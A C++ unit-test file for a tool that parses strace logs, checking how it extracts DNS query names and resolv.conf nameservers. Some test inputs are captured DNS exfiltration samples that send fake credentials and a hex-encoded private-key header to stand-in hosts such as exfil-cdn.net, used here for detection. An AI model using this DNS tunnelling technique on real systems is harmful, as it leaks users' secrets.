// DnsQueryName on lines of a real capture: python3's getaddrinfo() with
// /etc/resolv.conf pointing at 127.0.0.1 (testdata/cases/py_dns_lookup/strace_log, strace's
// default -s 32 cuts the packets), plus constructed packets for the complete and the
// malformed cases.
#include "parsers/dns_query.h"

#include "gtest/gtest.h"

namespace rundown {
namespace {

TEST(DnsQueryName, NamesFromRealQueryLines) {
  // sendmmsg and sendto of the same query; -s 32 cut the packet right after "com".
  EXPECT_EQ(DnsQueryName("10863 15:58:00.234773 sendmmsg(3<socket:[187980453]>, [{msg_hdr={msg_name=NULL, "
                         "msg_namelen=0, msg_iov=[{iov_base=\"\\313(\\1\\0\\0\\1\\0\\0\\0\\0\\0\\0\\7updates\\7example"
                         "\\3com\"..., iov_len=37}], msg_iovlen=1, msg_controllen=0, msg_flags=0}, msg_len=37}, "
                         "{msg_hdr={msg_name=NULL, msg_namelen=0, msg_iov=[{iov_base=\" 5\\1\\0\\0\\1\\0\\0\\0\\0\\0\\0"
                         "\\7updates\\7example\\3com\"..., iov_len=37}], msg_iovlen=1, msg_controllen=0, msg_flags=0}}], 2, "
                         "MSG_NOSIGNAL) = 1 <0.000213>"),
            "updates.example.com...");
  EXPECT_EQ(DnsQueryName("10863 15:58:00.235186 sendto(3<socket:[187980453]>, \" 5\\1\\0\\0\\1\\0\\0\\0\\0\\0\\0\\7updates"
                         "\\7example\\3com\"..., 37, MSG_NOSIGNAL, NULL, 0) = 37 <0.000070>"),
            "updates.example.com...");
  // Cut inside the first label (a 38-byte label: '&').
  EXPECT_EQ(DnsQueryName("10863 15:58:00.239714 sendto(3<socket:[187980455]>, \"\\260\\3\\1\\0\\0\\1\\0\\0\\0\\0\\0\\0"
                         "&a-very-long-subdoma\"..., 68, MSG_NOSIGNAL, NULL, 0) = 68 <0.000069>"),
            "a-very-long-subdoma...");
}

TEST(DnsQueryName, WholeAndMalformedPackets) {
  // A whole query (strace -s 64): the name ends at its zero byte.
  EXPECT_EQ(DnsQueryName("sendto(3, \"\\274\\321\\1\\0\\0\\1\\0\\0\\0\\0\\0\\0\\7example\\3com\\0\\0\\1\\0\\1\", 29, "
                         "MSG_NOSIGNAL, NULL, 0) = 29"),
            "example.com");
  // Not a query: no string, a header only, a label too long (a compression pointer), a
  // label with a byte names do not hold, a whole packet that ends inside the name.
  for (const char* line : {"sendto(3, 0x7ffd12345678, 29, 0, NULL, 0) = 29", "sendto(3, \"\\1\\2\\3\", 3, 0, NULL, 0) = 3",
                           "sendto(3, \"\\1\\2\\1\\0\\0\\1\\0\\0\\0\\0\\0\\0\\300\\f\", 14, 0, NULL, 0) = 14",
                           "sendto(3, \"\\1\\2\\1\\0\\0\\1\\0\\0\\0\\0\\0\\0\\3a b\\0\", 17, 0, NULL, 0) = 17",
                           "sendto(3, \"\\1\\2\\1\\0\\0\\1\\0\\0\\0\\0\\0\\0\\7exam\", 17, 0, NULL, 0) = 17"}) {
    EXPECT_EQ(DnsQueryName(line), "") << line;
  }
  // A name longer than DNS allows (253) is not a query.
  std::string line = "sendto(3, \"\\1\\2\\1\\0\\0\\1\\0\\0\\0\\0\\0\\0";
  for (int k = 0; k < 5; ++k) line += "?" + std::string(63, 'a');
  line += "\\0\", 340, 0, NULL, 0) = 340";
  EXPECT_EQ(DnsQueryName(line), "");
  // Three labels of 63 bytes (191 with the dots) are a name.
  std::string ok = "sendto(3, \"\\1\\2\\1\\0\\0\\1\\0\\0\\0\\0\\0\\0";
  for (int k = 0; k < 3; ++k) ok += "?" + std::string(63, 'a');
  ok += "\\0\", 210, 0, NULL, 0) = 210";
  const std::string label(63, 'a');
  EXPECT_EQ(DnsQueryName(ok), label + "." + label + "." + label);
}

// testdata/formats/strace/f_tt_T_yy_s256_port53_disguise.txt (udp_exfil_probe.py port53, -s 256):
// data sent to port 53 is not a query; the probe's real query to the same server is.
TEST(ReadDnsPacket, DataSentToPort53IsNotAQuery) {
  std::string name;
  EXPECT_EQ(ReadDnsPacket("27285 03:17:05.337841 sendto(3<UDP:[6224585]>, \"user=nobody;key=FAKE-AAAAAAAAAAAAAAAA\", 37, 0, "
                          "{sa_family=AF_INET, sin_port=htons(53), sin_addr=inet_addr(\"203.0.113.5\")}, 16) = -1 "
                          "ENETUNREACH (Network is unreachable) <0.000063>",
                          &name),
            DnsPacket::kNotAQuery);
  EXPECT_EQ(name, "");
  EXPECT_EQ(ReadDnsPacket("27285 03:17:05.338046 sendmsg(3<UDP:[0.0.0.0:48961]>, {msg_name={sa_family=AF_INET, "
                          "sin_port=htons(53), sin_addr=inet_addr(\"203.0.113.5\")}, msg_namelen=16, msg_iov=[{iov_base="
                          "\"user=nobody;key=FAKE-AAAAAAAAAAAAAAAA\", iov_len=37}], msg_iovlen=1, msg_controllen=0, "
                          "msg_flags=0}, 0) = -1 ENETUNREACH (Network is unreachable) <0.000009",
                          &name),
            DnsPacket::kNotAQuery);
  EXPECT_EQ(ReadDnsPacket("27285 03:17:05.338196 sendto(3<UDP:[0.0.0.0:48961]>, \"\\0224\\1\\0\\0\\1\\0\\0\\0\\0\\0\\0"
                          "\\17dXNlcj1ub2JvZHk\\1t\\7example\\3net\\0\\0\\1\\0\\1\", 47, 0, {sa_family=AF_INET, "
                          "sin_port=htons(53), sin_addr=inet_addr(\"203.0.113.5\")}, 16) = -1 ENETUNREACH (Network is "
                          "unreachable) <0.000005>",
                          &name),
            DnsPacket::kQuery);
  EXPECT_EQ(name, "dXNlcj1ub2JvZHk.t.example.net");
}

TEST(ReadDnsPacket, UnreadableTcpAndCutPackets) {
  std::string name;
  // No bytes (-e raw=sendto), or cut inside the header (-s 8): nothing to judge.
  EXPECT_EQ(ReadDnsPacket("sendto(3, 0x7ffd12345678, 29, 0, NULL, 0) = 29", &name), DnsPacket::kUnreadable);
  EXPECT_EQ(ReadDnsPacket("sendto(3, \"\\274\\321\\1\\0\\0\\1\\0\\0\"..., 29, 0, NULL, 0) = 29", &name),
            DnsPacket::kUnreadable);
  // A response (QR set) or a header without a question is not a query sent.
  EXPECT_EQ(ReadDnsPacket("sendto(3, \"\\274\\321\\201\\0\\0\\1\\0\\0\\0\\0\\0\\0\\1a\\0\", 15, 0, NULL, 0) = 15", &name),
            DnsPacket::kNotAQuery);
  // Over TCP the query follows its two-byte length (29 = 0x1d).
  EXPECT_EQ(ReadDnsPacket("write(3, \"\\0\\35\\274\\321\\1\\0\\0\\1\\0\\0\\0\\0\\0\\0\\7example\\3com\\0\\0\\1\\0\\1\", 31) = 31",
                          &name),
            DnsPacket::kQuery);
  EXPECT_EQ(name, "example.com");
}

// A framed query whose ID starts with a byte below 0x80 reads, unframed, as a query of the
// root; the framed reading is the one. Python's socket.sendall of a DNS-over-TCP exfiltration
// query (captured under strace -yy -s 256 in the sandbox of testdata/harness/lib.sh).
TEST(ReadDnsPacket, TcpQueryWhoseIdLooksLikeFlags) {
  std::string name;
  EXPECT_EQ(ReadDnsPacket("94    1796412412.482129 sendto(3<TCP:[127.0.0.1:44504->127.0.0.11:53]>, "
                          "\"\\0`\\0224\\1\\0\\0\\1\\0\\0\\0\\0\\0\\0<2d2d2d2d2d424547494e204f50454e5353482050"
                          "524956415445204b4559\\0010\\1t\\texfil-cdn\\3net\\0\\0\\20\\0\\1\", 98, 0, NULL, 0) = 98 <0.000183>",
                          &name),
            DnsPacket::kQuery);
  EXPECT_EQ(name, "2d2d2d2d2d424547494e204f50454e5353482050524956415445204b4559.0.t.exfil-cdn.net");
  // The same query sent over UDP, without the length: read as it is.
  EXPECT_EQ(ReadDnsPacket("sendto(3, \"\\0224\\1\\0\\0\\1\\0\\0\\0\\0\\0\\0\\3abc\\3net\\0\\0\\20\\0\\1\", 25, 0, NULL, 0) = 25",
                          &name),
            DnsPacket::kQuery);
  EXPECT_EQ(name, "abc.net");
}


// Real reads of resolv.conf: a Docker-generated one cut by -s 256 after its nameserver lines
// (testdata/formats/strace/f_tt_T_y_s256_resolver_docker_listed.txt), one cut by -s 32 after
// its first line (f_tt_T_y_miner.txt), `strace -xx -s 64 cat /etc/resolv.conf` and `-s 20`
// on this host; the resumed half copies strace's "<... read resumed>" form.
TEST(ResolvConfNameservers, ServersFromRealReads) {
  EXPECT_EQ(ResolvConfNameservers(
                "19074 11:38:45.557739 read(3</etc/resolv.conf>, \"# Generated by Docker Engine.\\n# This file can "
                "be edited; Docker Engine will not make further changes once it\\n# has been modified.\\n\\nnameserver "
                "8.8.8.8\\nnameserver 8.8.4.4\\nsearch .\\noptions timeout:1 attempts:1\\n\\n# Based on host file: "
                "'/etc/resolv.conf' (legacy\"..., 4096) = 274 <0.000194>"),
            (std::vector<std::string>{"8.8.8.8", "8.8.4.4"}));
  EXPECT_EQ(ResolvConfNameservers("9584  17:06:40.504359 read(3</etc/resolv.conf>, \"nameserver 127.0.0.1\\noptions "
                                  "tim\"..., 4096) = 50 <0.000058>"),
            std::vector<std::string>{"127.0.0.1"});
  EXPECT_EQ(ResolvConfNameservers(
                "read(3<\\x2f\\x65\\x74\\x63\\x2f\\x72\\x65\\x73\\x6f\\x6c\\x76\\x2e\\x63\\x6f\\x6e\\x66>, "
                "\"\\x6e\\x61\\x6d\\x65\\x73\\x65\\x72\\x76\\x65\\x72\\x20\\x31\\x30\\x2e\\x32\\x35\\x35\\x2e\\x32\\x35"
                "\\x35\\x2e\\x35\\x33\\x0a\", 131072) = 25"),
            std::vector<std::string>{"10.255.255.53"});
  EXPECT_EQ(ResolvConfNameservers("19081 11:38:45.621590 <... read resumed>\"nameserver 127.0.0.11\\noptions ndots:0 "
                                  "timeout:1 attempts:1\\n\", 4096) = 59 <0.000005>"),
            std::vector<std::string>{"127.0.0.11"});
  // -s 20 cut the only nameserver line: its address may be cut too ("10.255.25").
  EXPECT_TRUE(ResolvConfNameservers("read(3</etc/resolv.conf>, \"nameserver 10.255.25\"..., 131072) = 25").empty());
  EXPECT_TRUE(ResolvConfNameservers("read(3</etc/resolv.conf>, \"\", 131072)   = 0").empty());
  EXPECT_TRUE(ResolvConfNameservers("19074 11:38:45.557600 read(3</etc/resolv.conf>,  <unfinished ...>").empty());
}

// ReadStrictDnsQuery: dnsmasq forwarding a question to its upstream on 127.0.0.1:5399
// (testdata/cases/dnsmasq_clean/strace_log.47:482, strace -x), and what is not a query.
TEST(ReadStrictDnsQuery, WireFormatOnAnyPort) {
  const std::string line =
      "1796399628.929134 sendto(9<socket:[361087]>, \"\\xe6\\xca\\x01\\x00\\x00\\x01\\x00\\x00\\x00\\x00\\x00\\x00\\x03"
      "\\x77\\x77\\x77\\x07\\x65\\x78\\x61\\x6d\\x70\\x6c\\x65\\x03\\x6f\\x72\\x67\\x00\\x00\\x01\\x00\"..., 33, 0, "
      "{sa_family=AF_INET, sin_port=htons(5399), sin_addr=inet_addr(\"127.0.0.1\")}, 16) = 33";
  std::string name;
  EXPECT_TRUE(ReadStrictDnsQuery(line, &name));
  EXPECT_EQ(name, "www.example.org");
  // The whole packet printed: QTYPE and QCLASS and nothing after them (or an OPT record).
  EXPECT_TRUE(ReadStrictDnsQuery("sendto(3, \"\\1\\2\\1\\0\\0\\1\\0\\0\\0\\0\\0\\0\\1a\\2io\\0\\0\\34\\0\\1\", 23, 0, NULL, 0) = 23", &name));
  EXPECT_EQ(name, "a.io");
  EXPECT_FALSE(ReadStrictDnsQuery("sendto(3, \"\\1\\2\\1\\0\\0\\1\\0\\0\\0\\0\\0\\0\\1a\\2io\\0\\0\\34\\0\\1xyz\", 26, 0, NULL, 0) = 26", &name));
  EXPECT_EQ(name, "");
  // Two questions, an answer (a reply's counts), a class that is not IN, a name cut by -s.
  EXPECT_FALSE(ReadStrictDnsQuery("sendto(3, \"\\1\\2\\1\\0\\0\\2\\0\\0\\0\\0\\0\\0\\1a\\2io\\0\\0\\34\\0\\1\", 23, 0, NULL, 0) = 23", &name));
  EXPECT_FALSE(ReadStrictDnsQuery("sendto(3, \"\\1\\2\\201\\200\\0\\1\\0\\1\\0\\0\\0\\0\\1a\\2io\\0\\0\\34\\0\\1\", 23, 0, NULL, 0) = 23", &name));
  EXPECT_FALSE(ReadStrictDnsQuery("sendto(3, \"\\1\\2\\1\\0\\0\\1\\0\\0\\0\\0\\0\\0\\1a\\2io\\0\\0\\34\\0\\7\", 23, 0, NULL, 0) = 23", &name));
  EXPECT_FALSE(ReadStrictDnsQuery("sendto(3, \"\\1\\2\\1\\0\\0\\1\\0\\0\\0\\0\\0\\0\\7exam\"..., 40, 0, NULL, 0) = 40", &name));
  EXPECT_FALSE(ReadStrictDnsQuery("write(1, \"GET / HTTP/1.1\\r\\n\", 16) = 16", &name));
}

}  // namespace
}  // namespace rundown
